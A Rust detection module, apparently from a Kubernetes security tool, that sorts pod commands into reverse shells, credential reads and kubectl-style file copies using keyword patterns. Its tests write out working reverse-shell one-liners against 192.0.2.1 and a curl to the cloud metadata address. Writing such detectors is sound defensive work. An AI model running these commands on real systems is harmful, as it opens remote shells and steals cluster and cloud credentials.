//! What commands are for, as far as their text tells.

/// What a command is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Purpose {
    /// It gives somebody elsewhere a shell.
    ReverseShell,
    /// It reads a token or credentials of a pod or a node.
    ReadsCredentials,
    /// It sends or gets files: what `kubectl cp` runs.
    CopiesFiles,
}

/// Longest command that is looked at: a script in a pod's arguments may be long, and nobody hides a line that is this far in
/// without a shell that is dangerous on its own.
const MOST: usize = 64 << 10;

/// What a command is for, of its parts as they would be given to the kernel.
pub(super) fn purpose<'c>(parts: impl Iterator<Item = &'c str>) -> Option<Purpose> {
    let mut text = String::new();
    for part in parts {
        if text.len() >= MOST {
            break;
        }
        text.push_str(part);
        text.push(' ');
    }
    if is_reverse_shell(&text) {
        return Some(Purpose::ReverseShell);
    }
    if reads_credentials(&text) {
        return Some(Purpose::ReadsCredentials);
    }
    copies_files(&text).then_some(Purpose::CopiesFiles)
}

/// The ways that everybody knows. To wait for a port (`echo > /dev/tcp/db/5432`) or to fetch a script is none of them: half of all
/// start scripts do.
fn is_reverse_shell(text: &str) -> bool {
    let has = |part: &str| text.contains(part);
    let any = |parts: &[&str]| parts.iter().any(|part| text.contains(part));
    let bash = any(&["/dev/tcp/", "/dev/udp/"])
        && any(&["sh -i", "0>&1", "0<&1", "sh <&", "sh<&", "<&3", "<&5", "<&196"]);
    let netcat = words(text).any(|word| matches!(base(word), "nc" | "ncat" | "netcat" | "nc.traditional"))
        && (any(&[" -e ", " --exec", " --sh-exec", " -c /bin/", " -c sh", " -c bash"])
            || (has("mkfifo") && any(&["/sh", "bash", " sh "])));
    let socat = has("socat")
        && any(&["exec:", "EXEC:", "system:", "SYSTEM:"])
        && any(&["tcp", "TCP", "openssl", "OPENSSL", "udp", "UDP"]);
    let python = has("socket") && any(&["os.dup2", "pty.spawn", "subprocess"]) && has("connect");
    let perl = has("use Socket") && has("exec");
    let ruby = has("TCPSocket") && has("exec");
    let php = has("fsockopen") && any(&["exec(", "system(", "proc_open(", "shell_exec", "popen("]);
    let telnet = words(text).filter(|word| base(word) == "telnet").count() >= 2 && has("|") && has("sh");
    let openssl = has("s_client") && has("mkfifo");
    let hidden = any(&["base64 -d", "base64 --decode", "base64 -D"])
        && any(&["|sh", "| sh", "|bash", "| bash", "|/bin/", "| /bin/"]);
    bash || netcat || socat || python || perl || ruby || php || telnet || openssl || hidden
}

/// Where pods and nodes keep what proves who they are. Sources: Kubernetes, *Configure Service Accounts for Pods*; AWS EKS User Guide,
/// IRSA and Pod Identity; EC2 User Guide, *Instance metadata*; GKE and AKS have their metadata at the same address.
const CREDENTIALS: [&str; 13] = [
    "secrets/kubernetes.io/serviceaccount",
    "secrets/eks.amazonaws.com/serviceaccount",
    "secrets/pods.eks.amazonaws.com/serviceaccount",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "169.254.170.2",
    "metadata.google.internal",
    "/.aws/credentials",
    "/.kube/config",
    "/etc/shadow",
    "/etc/kubernetes/pki",
    "/etc/kubernetes/admin.conf",
    "/var/lib/kubelet/p",
];

fn reads_credentials(text: &str) -> bool {
    CREDENTIALS.iter().any(|place| text.contains(place))
}

/// Exactly what kubectl runs, so that a `tar` of somebody's own is none. Source: kubernetes/kubectl, `pkg/cmd/cp/cp.go`.
fn copies_files(text: &str) -> bool {
    ["tar cf - ", "tar -xmf - ", "tar -xf - ", "tar --no-same-permissions --no-same-owner -xmf - "]
        .iter()
        .any(|command| text.starts_with(command))
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '"' | '\'' | '`'))
}

/// A program's name without its folder.
fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(parts: &[&str]) -> Option<Purpose> {
        purpose(parts.iter().copied())
    }

    #[test]
    fn reverse_shells_are_seen() {
        for command in [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
            "nc -e /bin/sh 192.0.2.1 4444",
            "/usr/bin/ncat 192.0.2.1 4444 --exec /bin/bash",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));pty.spawn(\"sh\")'",
            "php -r '$s=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "echo YmFzaA== | base64 -d | bash",
        ] {
            assert_eq!(of(&["sh", "-c", command]), Some(Purpose::ReverseShell), "{command}");
        }
    }

    #[test]
    fn everyday_commands_are_not() {
        for command in [
            "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
            "exec 3<>/dev/tcp/localhost/8080 && printf 'GET / HTTP/1.0\\r\\n' >&3",
            "nc -z db 5432",
            "curl -sSL https://example.com/install.sh | bash",
            "echo $CERT | base64 -d > /tls/ca.crt",
            "python app.py --socket /run/app.sock",
            "bash -i",
            "synccontainer -e production",
            "tar czf /backup/data.tgz /data",
        ] {
            assert_eq!(of(&["sh", "-c", command]), None, "{command}");
        }
    }

    #[test]
    fn credentials_and_copies_are_seen() {
        let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
        assert_eq!(of(&["cat", token]), Some(Purpose::ReadsCredentials));
        let imds = "curl -s http://169.254.169.254/latest/meta-data/iam/";
        assert_eq!(of(&["sh", "-c", imds]), Some(Purpose::ReadsCredentials));
        assert_eq!(of(&["tar", "cf", "-", "/data"]), Some(Purpose::CopiesFiles));
        assert_eq!(of(&["tar", "-xmf", "-", "-C", "/tmp"]), Some(Purpose::CopiesFiles));
        assert_eq!(of(&[]), None);
    }
}
